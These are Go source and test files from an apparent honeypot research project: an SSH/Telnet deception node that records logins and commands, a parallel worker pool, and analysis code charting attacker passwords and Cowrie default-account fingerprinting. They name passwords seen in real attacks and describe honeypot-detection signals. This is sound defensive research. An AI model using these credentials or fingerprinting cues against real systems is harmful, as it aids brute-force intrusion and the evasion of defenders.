//	honeynet_node_state_changes_total
//	honeynet_node_sink_errors_total
//	honeynet_node_active_connections
//	honeynet_session_duration_seconds (histogram)
//
// The guard's and budget's own counters register separately (see
// guard.Limiter.Register and guard.Budget.Register).
func (n *Node) Register(reg *obs.Registry) {
	reg.CounterFunc("honeynet_node_connections_total",
		"Connections handled by the node, by protocol.",
		n.stats.connsSSH.Load, obs.L("proto", "ssh"))
	reg.CounterFunc("honeynet_node_connections_total",
		"Connections handled by the node, by protocol.",
		n.stats.connsTelnet.Load, obs.L("proto", "telnet"))
	reg.CounterFunc("honeynet_node_auth_total",
		"Login attempts recorded, by outcome.",
		n.stats.authOK.Load, obs.L("result", "ok"))
	reg.CounterFunc("honeynet_node_auth_total",
		"Login attempts recorded, by outcome.",
		n.stats.authFail.Load, obs.L("result", "fail"))
	reg.CounterFunc("honeynet_node_commands_total",
		"Shell commands recorded across all sessions.", n.stats.commands.Load)
	reg.CounterFunc("honeynet_node_downloads_total",
		"Emulated file downloads recorded.", n.stats.downloads.Load)
	reg.CounterFunc("honeynet_node_state_changes_total",
		"Sessions that changed the virtual filesystem.", n.stats.stateChanges.Load)
	reg.CounterFunc("honeynet_node_sink_errors_total",
		"Session records the Sink failed to persist.", n.stats.sinkErrs.Load)
	reg.GaugeFunc("honeynet_node_active_connections",
		"Connections currently in flight.",
		func() float64 {
			n.activeMu.Lock()
			defer n.activeMu.Unlock()
			return float64(len(n.active))
		})
	n.durHist.Store(reg.Histogram("honeynet_session_duration_seconds",
		"Recorded session durations.", obs.DurationBuckets))
}

// New builds a node from cfg.
func New(cfg Config) (*Node, error) {
	if cfg.Sink == nil {
		return nil, errors.New("honeypot: Config.Sink is required")
	}
	if cfg.ID == "" {
		cfg.ID = "hp-0"
	}
	if cfg.Hostname == "" {
		cfg.Hostname = "svr04"
	}
	if cfg.Timeout == 0 {
		cfg.Timeout = DefaultTimeout
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	var hk *sshwire.HostKey
	var err error
	if len(cfg.HostKeySeed) > 0 {
		hk, err = sshwire.HostKeyFromSeed(cfg.HostKeySeed)
	} else {
		hk, err = sshwire.GenerateHostKey()
	}
	if err != nil {
		return nil, err
	}
	return &Node{cfg: cfg, hostKey: hk}, nil
}

// AllowLogin implements the honeynet's credential policy.
func AllowLogin(user, password string) bool {
	switch user {
	case "root":
		return password != "root"
	case "phil":
		// Cowrie default account (post-2020); the fingerprinting target.
		return true
	default:
		return false
	}
}

// ListenSSH starts the SSH endpoint on addr and serves until the listener
// closes. It returns the bound address.
func (n *Node) ListenSSH(addr string) (string, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", err
	}
	n.track(ln)
	go n.serveSSH(ln)
	return ln.Addr().String(), nil
}

// ListenTelnet starts the Telnet endpoint on addr.
func (n *Node) ListenTelnet(addr string) (string, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", err
	}
	n.track(ln)
	go n.serveTelnet(ln)
	return ln.Addr().String(), nil
}

func (n *Node) track(ln net.Listener) {
	n.mu.Lock()
	n.listeners = append(n.listeners, ln)
	n.mu.Unlock()
}

// Close stops all listeners. In-flight sessions keep running; use
// Drain to wait for (and then force) their completion.
func (n *Node) Close() error {
	n.mu.Lock()
	defer n.mu.Unlock()
	for _, ln := range n.listeners {
		_ = ln.Close()
	}
	n.listeners = nil
	return nil
}

// Drain gracefully shuts the node down: stop accepting, let in-flight
// sessions finish for up to timeout, then force-close the stragglers.
// Force-closed sessions still flow through the Sink — a record cut
// short at shutdown beats a record lost. Drain returns the number of
// connections that had to be force-closed.
func (n *Node) Drain(timeout time.Duration) int {
	n.draining.Store(true)
	_ = n.Close()
	done := make(chan struct{})
	go func() {
		n.inflight.Wait()
		close(done)
	}()
	if timeout > 0 {
		t := time.NewTimer(timeout)
		defer t.Stop()
		select {
		case <-done:
			return 0
		case <-t.C:
		}
	}
	// Deadline passed (or zero timeout): force-close what remains. The
	// protocol handlers unwind on the closed conn and finish() still
	// seals and delivers each record.
	n.activeMu.Lock()
	forced := len(n.active)
	for c := range n.active {
		_ = c.Close()
	}
	n.activeMu.Unlock()
	<-done
	return forced
}

// Draining reports whether Drain has been initiated — the admin
// endpoint's /healthz turns unhealthy on it.
func (n *Node) Draining() bool { return n.draining.Load() }

// admit runs the guard policy for one incoming connection and registers
// it for drain tracking. ok=false means the connection was shed and
// closed; otherwise the caller must invoke release when done.
func (n *Node) admit(nc net.Conn) (release func(), ok bool) {
	if n.draining.Load() {
		_ = nc.Close()
		return nil, false
	}
	var guardRelease func()
	if n.cfg.Guard != nil {
		ip, _ := splitAddr(nc.RemoteAddr())
		var d guard.Decision
		guardRelease, d = n.cfg.Guard.Admit(ip, func() { _ = nc.Close() })
		if d != guard.Admitted {
			_ = nc.Close()
			return nil, false
		}
	}
	n.inflight.Add(1)
	n.activeMu.Lock()
	if n.active == nil {
		n.active = map[net.Conn]struct{}{}
	}
	n.active[nc] = struct{}{}
	n.activeMu.Unlock()
	var once sync.Once
	return func() {
		once.Do(func() {
			n.activeMu.Lock()
			delete(n.active, nc)
			n.activeMu.Unlock()
			if guardRelease != nil {
				guardRelease()
			}
			n.inflight.Done()
		})
	}, true
}

func (n *Node) serveSSH(ln net.Listener) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		go n.HandleSSHConn(c)
	}
}

func (n *Node) serveTelnet(ln net.Listener) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		go n.HandleTelnetConn(c)
	}
}

// connState accumulates one connection's session record.
type connState struct {
	mu  sync.Mutex
	rec *session.Record
	sh  *shell.Shell
}

func (n *Node) newRecord(proto string, remote net.Addr) *session.Record {
	ip, port := splitAddr(remote)
	return &session.Record{
		ID:         n.nextID.Add(1),
		Start:      n.cfg.Now().UTC(),
		HoneypotID: n.cfg.ID,
		HoneypotIP: n.cfg.PublicIP,
		ClientIP:   ip,
		ClientPort: port,
		Protocol:   proto,
	}
}

func splitAddr(a net.Addr) (string, int) {
	if a == nil {
		return "", 0
	}
	host, portStr, err := net.SplitHostPort(a.String())
	if err != nil {
		return a.String(), 0
	}
	port, _ := strconv.Atoi(portStr)
	return host, port
}

// finish seals and delivers the record.
func (n *Node) finish(st *connState, timedOut bool) {
	st.mu.Lock()
	defer st.mu.Unlock()
	if st.rec == nil {
		return
	}
	rec := st.rec
	st.rec = nil
	rec.End = n.cfg.Now().UTC()
	rec.TimedOut = timedOut
	if st.sh != nil {
		rec.Commands = st.sh.Commands()
		rec.Downloads = st.sh.Downloads()
		rec.ExecAttempts = st.sh.ExecAttempts()
		rec.StateChanged = st.sh.StateChanged()
		rec.DroppedHashes = st.sh.DroppedHashes()
	}
	n.stats.commands.Add(int64(len(rec.Commands)))
	n.stats.downloads.Add(int64(len(rec.Downloads)))
	if rec.StateChanged {
		n.stats.stateChanges.Add(1)
	}
	for _, l := range rec.Logins {
		if l.Success {
			n.stats.authOK.Add(1)
		} else {
			n.stats.authFail.Add(1)
		}
	}
	n.durHist.Load().Observe(rec.End.Sub(rec.Start).Seconds())
	if err := n.cfg.Sink(rec); err != nil {
		n.stats.sinkErrs.Add(1)
	}
}

// HandleSSHConn runs the complete honeypot lifecycle on one SSH TCP
// connection.
func (n *Node) HandleSSHConn(nc net.Conn) {
	release, ok := n.admit(nc)
	if !ok {
		return
	}
	defer release()
	n.stats.connsSSH.Add(1)
	st := &connState{rec: n.newRecord(session.ProtoSSH, nc.RemoteAddr())}
	start := time.Now()
	srv, err := sshd.New(sshd.Config{
		HostKey:     n.hostKey,
		ConnTimeout: n.cfg.Timeout,
		Auth: func(_ sshd.ConnMeta, user, password string) bool {
			return AllowLogin(user, password)
		},
		OnAuthAttempt: func(meta sshd.ConnMeta, user, password string, ok bool) {
			st.mu.Lock()
			defer st.mu.Unlock()
			if st.rec == nil {
				return
			}
			if st.rec.ClientVersion == "" {
				st.rec.ClientVersion = meta.ClientVersion
			}
			st.rec.Logins = append(st.rec.Logins, session.LoginAttempt{
				Username: user, Password: password, Success: ok,
			})
		},
		Handler: func(s *sshd.Session) {
			n.runSession(st, s)
		},
	})
	if err != nil {
		nc.Close()
		n.finish(st, false)
		return
	}
	_ = srv.HandleConn(nc)
	n.finish(st, n.cfg.Timeout > 0 && time.Since(start) >= n.cfg.Timeout)
}

// sessionShell returns the connection's shell, creating it on first use.
// All session channels of a connection share one filesystem, like a real
// host would. In Persistent mode the filesystem is additionally shared
// across connections from the same client IP, so attacker consistency
// checks succeed.
func (n *Node) sessionShell(st *connState) *shell.Shell {
	st.mu.Lock()
	defer st.mu.Unlock()
	if st.sh == nil {
		dl := n.cfg.Download
		if n.cfg.DownloadBudget != nil && st.rec != nil {
			dl = shell.DownloadFunc(n.cfg.DownloadBudget.Wrap(st.rec.ClientIP, dl))
		}
		st.sh = shell.NewWithFS(n.cfg.Hostname, n.clientFS(st), dl)
	}
	return st.sh
}

// clientFS returns the filesystem for the connection's client: a fresh
// one per connection normally, a retained per-IP one in Persistent mode.
// Caller holds st.mu.
func (n *Node) clientFS(st *connState) *vfs.FS {
	if !n.cfg.Persistent || st.rec == nil || st.rec.ClientIP == "" {
		return vfs.New()
	}
	n.persistMu.Lock()
	defer n.persistMu.Unlock()
	if n.persist == nil {
		n.persist = map[string]*vfs.FS{}
	}
	fs, ok := n.persist[st.rec.ClientIP]
	if !ok {
		fs = vfs.New()
		n.persist[st.rec.ClientIP] = fs
	}
	return fs
}

// runSession services one SSH session channel: exec runs a single line,
// shell runs the interactive loop.
func (n *Node) runSession(st *connState, s *sshd.Session) {
	sh := n.sessionShell(st)
	if s.Command != "" {
		st.mu.Lock()
		out := sh.Run(s.Command)
		st.mu.Unlock()
		if out != "" {
			_, _ = io.WriteString(s, crlf(out))
		}
		_ = s.Exit(0)
		return
	}
	n.interactive(st, sh, s, s)
	_ = s.Exit(0)
}

// interactive drives the line-oriented shell loop over rw.
func (n *Node) interactive(st *connState, sh *shell.Shell, r io.Reader, w io.Writer) {
	if _, err := io.WriteString(w, n.motd()+crlf(sh.Prompt())); err != nil {
		return
	}
	buf := make([]byte, 4096)
	var line strings.Builder
	for {
		nr, err := r.Read(buf)
		if nr > 0 {
			line.WriteString(string(buf[:nr]))
			for {
				txt := line.String()
				i := strings.IndexAny(txt, "\r\n")
				if i < 0 {
					break
				}
				cmd := txt[:i]
				rest := strings.TrimPrefix(strings.TrimPrefix(txt[i:], "\r"), "\n")
				line.Reset()
				line.WriteString(rest)

				st.mu.Lock()
				out := sh.Run(cmd)
				exited := sh.Exited()
				st.mu.Unlock()
				if out != "" {
					if _, err := io.WriteString(w, crlf(out)); err != nil {
						return
					}
				}
				if exited {
					return
				}
				if _, err := io.WriteString(w, crlf(sh.Prompt())); err != nil {
					return
				}
			}
		}
		if err != nil {
			return
		}
	}
}

func (n *Node) motd() string {
	return fmt.Sprintf("Linux %s 5.10.0-8-amd64 #1 SMP Debian 5.10.46-4 (2021-08-03) x86_64\r\n\r\nThe programs included with the Debian GNU/Linux system are free software.\r\nLast login: %s from 203.0.113.7\r\n",
		n.cfg.Hostname, n.cfg.Now().UTC().Format("Mon Jan 2 15:04:05 2006"))
}

// crlf normalizes newlines for terminal output.
func crlf(s string) string {
	return strings.ReplaceAll(s, "\n", "\r\n")
}

// HandleTelnetConn runs the honeypot lifecycle on one Telnet connection.
func (n *Node) HandleTelnetConn(nc net.Conn) {
	release, ok := n.admit(nc)
	if !ok {
		return
	}
	defer release()
	n.stats.connsTelnet.Add(1)
	st := &connState{rec: n.newRecord(session.ProtoTelnet, nc.RemoteAddr())}
	start := time.Now()
	srv, err := telnetd.New(telnetd.Config{
		Banner:      "Debian GNU/Linux 11",
		ConnTimeout: n.cfg.Timeout,
		Auth:        AllowLogin,
		OnAuthAttempt: func(user, password string, ok bool) {
			st.mu.Lock()
			defer st.mu.Unlock()
			if st.rec == nil {
				return
			}
			st.rec.Logins = append(st.rec.Logins, session.LoginAttempt{
				Username: user, Password: password, Success: ok,
			})
		},
		Handler: func(user string, rw io.ReadWriter) {
			sh := n.sessionShell(st)
			sh.User = user
			n.interactive(st, sh, rw, rw)
		},
	})
	if err != nil {
		nc.Close()
		n.finish(st, false)
		return
	}
	_ = srv.HandleConn(nc)
	n.finish(st, n.cfg.Timeout > 0 && time.Since(start) >= n.cfg.Timeout)
}
