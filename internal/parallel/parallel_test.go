package parallel

import (
	"runtime"
	"sync/atomic"
	"testing"
)

func TestWorkers(t *testing.T) {
	if got := Workers(3); got != 3 {
		t.Errorf("Workers(3) = %d", got)
	}
	if got := Workers(0); got != runtime.NumCPU() {
		t.Errorf("Workers(0) = %d, want NumCPU", got)
	}
	if got := Workers(-5); got != runtime.NumCPU() {
		t.Errorf("Workers(-5) = %d, want NumCPU", got)
	}
}

// TestForEachCoversEveryIndexOnce: every index in [0, n) is visited
// exactly once for any (workers, grain) combination.
func TestForEachCoversEveryIndexOnce(t *testing.T) {
	for _, n := range []int{0, 1, 7, 64, 1000} {
		for _, workers := range []int{1, 2, 8, 33} {
			for _, grain := range []int{0, 1, 3, 64, 2000} {
				visits := make([]int32, n)
				ForEach(n, workers, grain, func(w, lo, hi int) {
					if lo < 0 || hi > n || lo >= hi {
						t.Fatalf("bad chunk [%d,%d) for n=%d", lo, hi, n)
					}
					if w < 0 || w >= Workers(workers) {
						t.Fatalf("worker %d out of range", w)
					}
					for i := lo; i < hi; i++ {
						atomic.AddInt32(&visits[i], 1)
					}
				})
				for i, v := range visits {
					if v != 1 {
						t.Fatalf("n=%d workers=%d grain=%d: index %d visited %d times",
							n, workers, grain, i, v)
					}
				}
			}
		}
	}
}

// TestForEachSerialOrder: with a single worker the chunks run inline in
// ascending order — the serial reference semantics reductions rely on.
func TestForEachSerialOrder(t *testing.T) {
	var seen []int
	ForEach(10, 1, 3, func(w, lo, hi int) {
		if w != 0 {
			t.Fatalf("serial path used worker %d", w)
		}
		for i := lo; i < hi; i++ {
			seen = append(seen, i)
		}
	})
	for i, v := range seen {
		if v != i {
			t.Fatalf("serial order broken: %v", seen)
		}
	}
	if len(seen) != 10 {
		t.Fatalf("covered %d indices", len(seen))
	}
}

// TestForEachDeterministicSlots: index-addressed writes give identical
// results across worker counts.
func TestForEachDeterministicSlots(t *testing.T) {
	const n = 512
	ref := make([]int, n)
	ForEach(n, 1, 16, func(w, lo, hi int) {
		for i := lo; i < hi; i++ {
			ref[i] = i * i
		}
	})
	for _, workers := range []int{2, 4, 16} {
		got := make([]int, n)
		ForEach(n, workers, 16, func(w, lo, hi int) {
			for i := lo; i < hi; i++ {
				got[i] = i * i
			}
		})
		for i := range ref {
			if got[i] != ref[i] {
				t.Fatalf("workers=%d: slot %d = %d, want %d", workers, i, got[i], ref[i])
			}
		}
	}
}
