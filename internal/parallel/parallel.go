// Package parallel is the multicore execution layer shared by the
// analysis and simulation hot paths: a small deterministic worker pool
// over index ranges.
//
// The cardinal design constraint is that every consumer must produce
// results that are byte-identical regardless of the worker count or
// GOMAXPROCS. The pool supports that by (a) passing each invocation a
// stable worker index so callers can keep per-worker scratch state, and
// (b) leaving all result placement to the caller, who writes into
// index-addressed slots and performs any floating-point reduction in
// canonical index order afterwards.
package parallel

import (
	"runtime"
	"sync"
	"sync/atomic"
)

// Workers resolves a worker-count setting: values <= 0 select
// runtime.NumCPU().
func Workers(n int) int {
	if n > 0 {
		return n
	}
	return runtime.NumCPU()
}

// ForEach partitions the index range [0, n) into contiguous chunks of at
// most grain indices and executes fn(worker, lo, hi) over every chunk
// using up to `workers` goroutines. Chunks are claimed dynamically (an
// atomic cursor), which load-balances triangular or otherwise skewed
// work without affecting determinism: which worker computes a chunk can
// vary between runs, but the chunk boundaries cannot, and callers only
// write to index-addressed slots.
//
// fn must not write to any location another chunk writes. The worker
// argument is in [0, workers) and identifies the executing goroutine so
// callers can reuse per-worker scratch buffers.
//
// With workers <= 1 (or a single chunk) the chunks run inline on the
// calling goroutine, in order — the serial reference path.
func ForEach(n, workers, grain int, fn func(worker, lo, hi int)) {
	if n <= 0 {
		return
	}
	if grain <= 0 {
		grain = 1
	}
	chunks := (n + grain - 1) / grain
	if workers > chunks {
		workers = chunks
	}
	if workers <= 1 {
		for c := 0; c < chunks; c++ {
			lo := c * grain
			hi := lo + grain
			if hi > n {
				hi = n
			}
			fn(0, lo, hi)
		}
		return
	}
	var cursor atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(worker int) {
			defer wg.Done()
			for {
				c := int(cursor.Add(1)) - 1
				if c >= chunks {
					return
				}
				lo := c * grain
				hi := lo + grain
				if hi > n {
					hi = n
				}
				fn(worker, lo, hi)
			}
		}(w)
	}
	wg.Wait()
}
