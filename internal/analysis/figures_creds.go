package analysis

import (
	"math"
	"sort"
	"time"

	"honeynet/internal/collector"
	"honeynet/internal/report"
	"honeynet/internal/session"
)

// ---------- Figure 10: top login passwords ----------

// Fig10Result tracks the top passwords used in successful logins.
type Fig10Result struct {
	Top []string
	// Monthly[password][month] = sessions.
	Monthly map[string]map[time.Time]int
	Totals  map[string]int
}

// Fig10 counts sessions per password over time for the top-n passwords
// (the paper shows 5).
func Fig10(w *World, topN int) *Fig10Result {
	res := &Fig10Result{Monthly: map[string]map[time.Time]int{}, Totals: map[string]int{}}
	for _, r := range w.Store.All() {
		if !IsSSH(r) || !r.LoggedIn() {
			continue
		}
		for _, l := range r.Logins {
			if !l.Success {
				continue
			}
			res.Totals[l.Password]++
			if res.Monthly[l.Password] == nil {
				res.Monthly[l.Password] = map[time.Time]int{}
			}
			res.Monthly[l.Password][r.Month()]++
		}
	}
	pwds := make([]string, 0, len(res.Totals))
	for p := range res.Totals {
		pwds = append(pwds, p)
	}
	sort.Slice(pwds, func(i, j int) bool {
		if res.Totals[pwds[i]] != res.Totals[pwds[j]] {
			return res.Totals[pwds[i]] > res.Totals[pwds[j]]
		}
		return pwds[i] < pwds[j]
	})
	if len(pwds) > topN {
		pwds = pwds[:topN]
	}
	res.Top = pwds
	return res
}

// Table renders the monthly series for the top passwords.
func (f *Fig10Result) Table() *report.Table {
	months := map[time.Time]bool{}
	for _, p := range f.Top {
		for m := range f.Monthly[p] {
			months[m] = true
		}
	}
	t := &report.Table{
		Title:   "Figure 10: top login passwords over time (sessions)",
		Headers: append([]string{"month"}, f.Top...),
	}
	for _, m := range collector.SortedMonths(months) {
		row := []any{m.Format("2006-01")}
		for _, p := range f.Top {
			row = append(row, f.Monthly[p][m])
		}
		t.AddRow(row...)
	}
	return t
}

// Correlation computes the Pearson correlation of two passwords'
// monthly series — the dreambox / vertex25ektks123 synchronization
// check.
func (f *Fig10Result) Correlation(a, b string) float64 {
	months := map[time.Time]bool{}
	for m := range f.Monthly[a] {
		months[m] = true
	}
	for m := range f.Monthly[b] {
		months[m] = true
	}
	var xs, ys []float64
	for _, m := range collector.SortedMonths(months) {
		xs = append(xs, float64(f.Monthly[a][m]))
		ys = append(ys, float64(f.Monthly[b][m]))
	}
	return pearson(xs, ys)
}

func pearson(xs, ys []float64) float64 {
	n := float64(len(xs))
	if n < 2 {
		return 0
	}
	var sx, sy float64
	for i := range xs {
		sx += xs[i]
		sy += ys[i]
	}
	mx, my := sx/n, sy/n
	var cov, vx, vy float64
	for i := range xs {
		dx, dy := xs[i]-mx, ys[i]-my
		cov += dx * dy
		vx += dx * dx
		vy += dy * dy
	}
	if vx == 0 || vy == 0 {
		return 0
	}
	return cov / (math.Sqrt(vx) * math.Sqrt(vy))
}

// ---------- Figure 11: Cowrie default usernames ----------

// Fig11Month counts phil login successes and richard attempts.
type Fig11Month struct {
	Month        time.Time
	PhilSuccess  int
	RichardTries int
}

// Fig11Result carries the series plus the fingerprinting statistics of
// section 8.
type Fig11Result struct {
	Months []Fig11Month
	// PhilSessions is the total count of sessions logging in as phil.
	PhilSessions int
	// PhilNoCommands is how many of those ran no commands (the >90%
	// immediate-disconnect fingerprinting signature).
	PhilNoCommands int
	// PhilUniqueIPs counts distinct sources.
	PhilUniqueIPs int
	// PhilRepeatIPs counts sources seen more than once.
	PhilRepeatIPs int
}

// Fig11 computes the Cowrie-default-credential series.
func Fig11(w *World) *Fig11Result {
	res := &Fig11Result{}
	perMonth := map[time.Time]*Fig11Month{}
	ips := map[string]int{}
	row := func(m time.Time) *Fig11Month {
		r, ok := perMonth[m]
		if !ok {
			r = &Fig11Month{Month: m}
			perMonth[m] = r
		}
		return r
	}
	for _, r := range w.Store.All() {
		if !IsSSH(r) {
			continue
		}
		for _, l := range r.Logins {
			switch l.Username {
			case "phil":
				if l.Success {
					row(r.Month()).PhilSuccess++
					res.PhilSessions++
					ips[r.ClientIP]++
					if len(r.Commands) == 0 {
						res.PhilNoCommands++
					}
				}
			case "richard":
				row(r.Month()).RichardTries++
			}
		}
	}
	res.PhilUniqueIPs = len(ips)
	for _, n := range ips {
		if n > 1 {
			res.PhilRepeatIPs++
		}
	}
	for _, m := range collector.SortedMonths(perMonth) {
		res.Months = append(res.Months, *perMonth[m])
	}
	return res
}

// Table renders the series.
func (f *Fig11Result) Table() *report.Table {
	t := &report.Table{
		Title:   "Figure 11: Cowrie default usernames over time",
		Headers: []string{"month", "login-success: phil", "login-try: richard"},
	}
	for _, m := range f.Months {
		t.AddRow(m.Month.Format("2006-01"), m.PhilSuccess, m.RichardTries)
	}
	return t
}

// IntrusionPasswordSessions counts sessions per password restricted to
// pure intrusions (login, no commands) — used for the 3245gs5662d34
// investigation.
func IntrusionPasswordSessions(w *World, password string) []*session.Record {
	return w.Store.Filter(func(r *session.Record) bool {
		if !IsSSH(r) || r.Kind() != session.Intrusion {
			return false
		}
		for _, l := range r.Logins {
			if l.Success && l.Password == password {
				return true
			}
		}
		return false
	})
}
