package analysis

import (
	"fmt"
	"testing"
)

// TestFig5TableRowSums pins the row-sum refactor of Fig5Table to the
// direct per-cluster rescan it replaced: for every displayed cluster,
// the rendered intra- and inter-cluster means must match what the
// original O(members·N) loops produce, cell for cell. Rendering rounds
// to three decimals, so the test also bounds the raw drift the changed
// accumulation order may introduce.
func TestFig5TableRowSums(t *testing.T) {
	w := testWorld(t)
	cres, err := RunClustering(w, ClusterConfig{K: 25, SampleSize: 300, Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	tbl := cres.Fig5Table(0)
	if len(tbl.Rows) != cres.K {
		t.Fatalf("rows = %d, want %d", len(tbl.Rows), cres.K)
	}
	for rank, c := range cres.Order {
		members := cres.Res.Members(c)
		// The pre-refactor reference: rescan the matrix per cluster.
		intra, intraN := 0.0, 0
		inter, interN := 0.0, 0
		for ii, i := range members {
			for _, j := range members[ii+1:] {
				intra += cres.Matrix.At(i, j)
				intraN++
			}
		}
		for _, i := range members {
			for j := 0; j < cres.Matrix.N; j++ {
				if cres.Res.Assign[j] != c {
					inter += cres.Matrix.At(i, j)
					interN++
				}
			}
		}
		if intraN > 0 {
			intra /= float64(intraN)
		}
		if interN > 0 {
			inter /= float64(interN)
		}
		row := tbl.Rows[rank]
		if got, want := row[3], fmt.Sprintf("%.3f", intra); got != want {
			t.Errorf("cluster C-%d intra = %s, reference %s", rank+1, got, want)
		}
		if got, want := row[4], fmt.Sprintf("%.3f", inter); got != want {
			t.Errorf("cluster C-%d inter = %s, reference %s", rank+1, got, want)
		}
		if got, want := row[1], fmt.Sprint(len(members)); got != want {
			t.Errorf("cluster C-%d texts = %s, want %s", rank+1, got, want)
		}
	}
}
