package analysis

import (
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"honeynet/internal/classify"
	"honeynet/internal/simulate"
)

// sharedWorld builds one full-window dataset for all analysis tests.
var (
	worldOnce sync.Once
	world     *World
)

func testWorld(t *testing.T) *World {
	t.Helper()
	worldOnce.Do(func() {
		res, err := simulate.Run(simulate.Config{Scale: 5000, Seed: 11})
		if err != nil {
			panic(err)
		}
		world = &World{
			Store:      res.Store,
			Registry:   res.Registry,
			AbuseDB:    res.AbuseDB,
			Classifier: classify.New(),
		}
	})
	return world
}

func TestMain(m *testing.M) { os.Exit(m.Run()) }

func month(y int, m time.Month) time.Time {
	return time.Date(y, m, 1, 0, 0, 0, 0, time.UTC)
}

func TestStatsShape(t *testing.T) {
	w := testWorld(t)
	st := Stats(w)
	if st.Total == 0 || st.SSH == 0 {
		t.Fatalf("stats = %+v", st)
	}
	// The paper: 546M SSH of 635M total (86%%); the rest is Telnet.
	sshShare := float64(st.SSH) / float64(st.Total)
	if sshShare < 0.80 || sshShare > 0.92 {
		t.Errorf("ssh share = %.3f, want ~0.86", sshShare)
	}
	if st.Telnet == 0 || st.SSH+st.Telnet != st.Total {
		t.Errorf("protocol split broken: %+v", st)
	}
	// Scouting dominates; command execution second — the paper's order.
	if !(st.Scouting > st.CommandExec && st.CommandExec > st.Intrusion && st.Intrusion > st.Scanning) {
		t.Errorf("session-type ordering broken: %+v", st)
	}
	if st.Table().String() == "" {
		t.Error("empty table")
	}
}

func TestFig1ShiftToExploration(t *testing.T) {
	w := testWorld(t)
	rows := Fig1(w)
	if len(rows) < 30 {
		t.Fatalf("months = %d", len(rows))
	}
	byMonth := map[time.Time]Fig1Month{}
	for _, r := range rows {
		byMonth[r.Month] = r
	}
	// Early-2022 spike in state-changing sessions (the one-botnet wave).
	feb22 := byMonth[month(2022, 2)].Changing.Total
	dec21 := byMonth[month(2021, 12)].Changing.Total
	if feb22 < 3*dec21 {
		t.Errorf("early-2022 spike missing: feb22=%d dec21=%d", feb22, dec21)
	}
	// From 2023: non-state sessions clearly exceed state-changing ones.
	q3_23 := byMonth[month(2023, 7)]
	if q3_23.Static.Total <= q3_23.Changing.Total {
		t.Errorf("2023 exploration shift missing: static=%d changing=%d",
			q3_23.Static.Total, q3_23.Changing.Total)
	}
	// And the static series grows from 2022 to 2023 (the paper's trend).
	if byMonth[month(2023, 7)].Static.Total <= byMonth[month(2022, 7)].Static.Total {
		t.Error("static sessions should increase into 2023")
	}
	// Boxplot stats are internally consistent.
	for _, r := range rows {
		for _, d := range []DailyDist{r.Changing, r.Static} {
			if d.Min > d.Q1 || d.Q1 > d.Median || d.Median > d.Q3 || d.Q3 > d.Max {
				t.Fatalf("quantiles disordered: %+v", d)
			}
		}
	}
}

func TestFig2EchoOKDominates(t *testing.T) {
	w := testWorld(t)
	f2 := Fig2(w)
	top := f2.TopCategories(3)
	if len(top) == 0 || top[0] != "echo_ok" {
		t.Fatalf("top categories = %v, want echo_ok first", top)
	}
	// Overall echo_ok share across months is dominant (paper: >80% of
	// the top-3 mass; our catalog includes more diluting scouts).
	overall := 0.0
	n := 0
	for _, m := range f2.Months {
		overall += f2.Share(m, "echo_ok")
		n++
	}
	if avg := overall / float64(n); avg < 0.55 {
		t.Errorf("echo_ok mean share = %.2f, want dominant", avg)
	}
}

func TestFig3aMdrfckrDominates(t *testing.T) {
	w := testWorld(t)
	f3a := Fig3a(w)
	// mdrfckr (both variants) accounts for >80% of file-touch sessions.
	total, mdr := 0, 0
	for m, byCat := range f3a.Counts {
		total += f3a.Totals[m]
		mdr += byCat["mdrfckr"] + byCat["mdrfckr_variant"]
	}
	if frac := float64(mdr) / float64(total); frac < 0.8 {
		t.Errorf("mdrfckr share = %.2f, want > 0.8 (paper: >90%%)", frac)
	}
}

func TestFig3bDeclineAndBusybox(t *testing.T) {
	w := testWorld(t)
	f3b := Fig3b(w)
	early := f3b.Totals[month(2022, 3)]
	late := f3b.Totals[month(2024, 6)]
	if late >= early {
		t.Errorf("exec sessions should decline: 2022-03=%d 2024-06=%d", early, late)
	}
	// bbox_unlabelled activity ends by August 2022.
	for m, byCat := range f3b.Counts {
		if m.After(month(2022, 8)) && byCat["bbox_unlabelled"] > 0 {
			t.Errorf("bbox_unlabelled alive in %v", m)
		}
	}
}

func TestFig4ExistsCollapse(t *testing.T) {
	w := testWorld(t)
	f4 := Fig4(w)
	if f4.MissingTotal() <= f4.ExistsTotal() {
		t.Errorf("missing (%d) must exceed exists (%d) — paper: 12M vs 3M",
			f4.MissingTotal(), f4.ExistsTotal())
	}
	// "File exists" collapses from 2023 (paper: 100k/mo -> 5k/mo).
	exists22 := f4.Exists.Totals[month(2022, 5)]
	exists24 := f4.Exists.Totals[month(2024, 5)]
	if exists24*3 >= exists22 {
		t.Errorf("exists collapse missing: 2022-05=%d 2024-05=%d", exists22, exists24)
	}
}

func TestFig16MissingMoreDiverse(t *testing.T) {
	w := testWorld(t)
	rows := Fig16(w)
	missingWins := 0
	for _, r := range rows {
		if r.Month.Before(month(2023, 1)) {
			continue
		}
		if r.UniqueMissing > r.UniqueExists {
			missingWins++
		}
	}
	if missingWins < 12 {
		t.Errorf("file-missing commands should be more diverse post-2023 (wins=%d)", missingWins)
	}
}

func TestTable1Coverage(t *testing.T) {
	w := testWorld(t)
	t1 := Table1(w)
	if t1.Total == 0 {
		t.Fatal("no sessions classified")
	}
	// Paper: >99% matched. Our catalog emits only classifiable commands.
	if frac := float64(t1.Matched) / float64(t1.Total); frac < 0.99 {
		t.Errorf("match coverage = %.4f, want > 0.99 (unknown: %d)", frac, t1.Unknown)
	}
	if t1.Categories < 59 {
		t.Errorf("categories = %d", t1.Categories)
	}
}

func TestClusteringPipeline(t *testing.T) {
	w := testWorld(t)
	res, err := RunClustering(w, ClusterConfig{K: 20, SampleSize: 300, Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	if res.K != 20 || len(res.Texts) == 0 {
		t.Fatalf("clustering: k=%d texts=%d", res.K, len(res.Texts))
	}
	// Every text assigned; weights positive.
	for i := range res.Texts {
		if res.Weight[i] <= 0 || len(res.Sessions[i]) != res.Weight[i] {
			t.Fatalf("text %d weight %d sessions %d", i, res.Weight[i], len(res.Sessions[i]))
		}
	}
	// At least one cluster carries an abuse-database family label.
	labeled := 0
